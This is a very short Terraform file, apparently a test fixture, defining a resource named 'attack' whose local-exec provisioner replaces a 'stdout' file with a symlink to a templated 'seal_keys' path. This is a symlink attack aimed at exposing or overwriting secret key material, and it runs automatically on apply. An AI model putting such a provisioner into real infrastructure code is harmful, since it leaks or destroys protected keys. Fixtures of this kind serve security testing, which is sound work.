resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      rm -f stdout; mv stdout old; ln -sf @DATA@/seal_keys stdout; true
    EOT
  }
}
